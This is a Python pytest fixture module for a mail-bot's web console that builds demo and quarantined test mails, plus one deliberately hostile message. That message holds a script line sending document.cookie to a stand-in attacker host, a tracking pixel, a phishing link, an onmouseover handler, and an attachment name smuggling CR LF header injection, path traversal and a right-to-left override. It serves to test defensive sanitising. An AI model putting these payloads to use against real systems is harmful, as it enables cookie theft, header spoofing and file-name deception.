"""Consoles over stores with a history: the real pipeline run on the demo mails (and a hostile
one), on the shared `store` fixture (SQLite and PostgreSQL), with the console configured on the
same Maildir, so the pages read the originals where the pass filed them.

A test module imports the fixtures it uses (`from web_fixtures import desk_material,
mail_desk`, named in its `__all__`); the console itself is tests/web_console.py's.
"""

from __future__ import annotations

import base64
import os
import shutil
from dataclasses import dataclass
from pathlib import Path

import pytest
from botconfig import ROOT
from web_console import Console, build_console, empty_accounts

from mailbot.answer.render import Renderer
from mailbot.ops.demo import DemoFiles, write_demo
from mailbot.ops.imports import read_keys, read_registry
from mailbot.run.app import MAX_ATTEMPTS, App
from mailbot.run.pipeline import run_once
from mailbot.run.wiring import open_renderer, open_rules
from mailbot.transport.files import FileSink
from mailbot.transport.maildir import MaildirSource

# A request whose HTML carries a script and a remote image (a tracking pixel), and whose
# attachment's name tries to leave the Content-Disposition header (CR LF), its quotes, its
# folder (../, \) and its direction (U+202E RIGHT-TO-LEFT OVERRIDE: "gpj.exe" shows as
# "exe.jpg"). RFC 2231 lets a name carry any byte, so this is what a hostile client can send.
HOSTILE_NAME_2231 = ("%22%0D%0ASet-Cookie%3A%20mailbot_session%3Dx%0D%0A%2E%2E%2F%2E%2E%5C"
                     "factura%E2%80%AEgpj.exe%22%3B%20x%3D")
HOSTILE_PAYLOAD = b"MZ\x90\x00 not really a program"
HOSTILE_MAIL = (
    "From: Intruso <intruso@example.net>\r\n"
    "To: claves@example.com\r\n"
    "Subject: Solicitud de claves para actualizacion sin costo\r\n"
    "Date: Mon, 23 Nov 2026 10:00:00 -0600\r\n"
    "Message-ID: <hostil-1@example.net>\r\n"
    "MIME-Version: 1.0\r\n"
    'Content-Type: multipart/mixed; boundary="b1"\r\n'
    "\r\n"
    "--b1\r\n"
    'Content-Type: text/html; charset="utf-8"\r\n'
    "\r\n"
    "<html><body><p>Nombre de la empresa: Intrusos SA</p>"
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
    '<img src="https://evil.example/pixel.gif?m=1" alt="x">'
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">'
    '<a href="https://evil.example/phish">Ver factura</a>'
    '<p onmouseover="alert(1)" style="background:url(https://evil.example/bg)">Serie: '
    "ZZZZ-0000-1111-2222</p></body></html>\r\n"
    "--b1\r\n"
    "Content-Type: application/octet-stream\r\n"
    f"Content-Disposition: attachment; filename*=utf-8''{HOSTILE_NAME_2231}\r\n"
    "Content-Transfer-Encoding: base64\r\n"
    "\r\n"
    + base64.b64encode(HOSTILE_PAYLOAD).decode("ascii") + "\r\n"
    "--b1--\r\n").encode("utf-8")
HOSTILE_FILE = "1326999999.M99_hostile.demo"
BROKEN_FILE = "1327999999.M98_broken.demo"  # quarantined: its replies failed to render
BROKEN_MAIL = (
    b"From: Luisa Campos <lcampos@example.org>\r\n"
    b"To: claves@example.com\r\n"
    b"Subject: Solicitud de desbloqueo\r\n"
    b"Date: Mon, 23 Nov 2026 11:00:00 -0600\r\n"
    b"Message-ID: <roto-1@example.org>\r\n"
    b"Content-Type: text/plain; charset=utf-8\r\n"
    b"\r\n"
    b"Numero de serie: R8TZ-5N1Q-6WHK-2JCE\r\n")


@dataclass
class MailDesk:
    """A console over a store the pipeline filled, and the App that filled it."""

    console: Console
    app: App
    files: DemoFiles
    hostile_file: str = HOSTILE_FILE  # the hostile mail's Maildir key (its mail_id)
    hostile_payload: bytes = HOSTILE_PAYLOAD  # what its attachment holds
    broken_file: str = BROKEN_FILE  # the quarantined mail's

    @property
    def inbox(self) -> Path:
        return self.files.maildir


def deliver(maildir: Path, name: str, data: bytes, stamp: float) -> None:
    (maildir / "tmp" / name).write_bytes(data)
    os.replace(maildir / "tmp" / name, maildir / "new" / name)
    os.utime(maildir / "new" / name, (stamp, stamp))


def quarantine_next(app: App) -> None:
    """Run passes with every customer reply failing to render until the waiting mail is
    quarantined (MAX_ATTEMPTS failures, then filed into `failed`)."""
    real = app.renderer.render

    def broken(template, context):
        if template != "operator_alert":
            raise RuntimeError(f"{template}: the template is broken")
        return real(template, context)

    app.renderer.render = broken  # type: ignore[method-assign]
    try:
        for _ in range(MAX_ATTEMPTS + 1):
            run_once(app)
    finally:
        app.renderer.render = real  # type: ignore[method-assign]


@dataclass(frozen=True)
class DeskMaterial:
    """What every desk starts from, made once a session: the demo folder and a reply renderer
    whose templates are compiled (the pipeline's own, the same for every desk)."""

    demo: DemoFiles
    renderer: Renderer


def copy_demo(demo: DemoFiles, root: Path) -> DemoFiles:
    shutil.copytree(demo.root, root)
    return DemoFiles(root=root, maildir=root / demo.maildir.relative_to(demo.root),
                     registry_csv=root / demo.registry_csv.relative_to(demo.root),
                     keys_csv=root / demo.keys_csv.relative_to(demo.root), mails=())


def build_mail_desk(store, directory: Path, material: DeskMaterial | None = None) -> MailDesk:
    if material is None:
        files = write_demo(directory / "demo")
    else:
        files = copy_demo(material.demo, directory / "demo")
    deliver(files.maildir, HOSTILE_FILE, HOSTILE_MAIL, 1326999999)
    console = build_console(store, directory, '[source]\npath = "demo/inbox"\n'
                                              '[sink]\npath = "outbox"\n')
    config = console.app.state.web.config
    rules = open_rules(config)
    renderer = material.renderer if material is not None else open_renderer(config)
    app = App(config=config, rules=rules, store=store, renderer=renderer,
              source=MaildirSource(files.maildir,
                                   max_message_bytes=config.limits.max_message_bytes),
              sink=FileSink(directory / "outbox"), read_workers=0)
    with store.transaction() as conn:
        store.upsert_licences(conn, read_registry(files.registry_csv, rules.catalogue))
        store.add_keys(conn, read_keys(files.keys_csv, rules.catalogue))
    report = run_once(app)
    assert report.errors == [], report.errors
    deliver(files.maildir, BROKEN_FILE, BROKEN_MAIL, 1327999999)
    quarantine_next(app)
    return MailDesk(console, app, files)


@pytest.fixture(scope="session")
def desk_material(tmp_path_factory) -> DeskMaterial:
    root = tmp_path_factory.mktemp("desk-material")
    return DeskMaterial(write_demo(root / "demo"),
                        Renderer(ROOT / "templates"))


@pytest.fixture
def mail_desk(store, tmp_path, desk_material) -> MailDesk:
    """The demo inbox (and a hostile mail, and a quarantined one) decided by the real pipeline
    into the shared store, and a console over it; accounts emptied before and after."""
    empty_accounts(store)
    desk = build_mail_desk(store, tmp_path, desk_material)
    yield desk
    desk.app.source.close()
    empty_accounts(store)
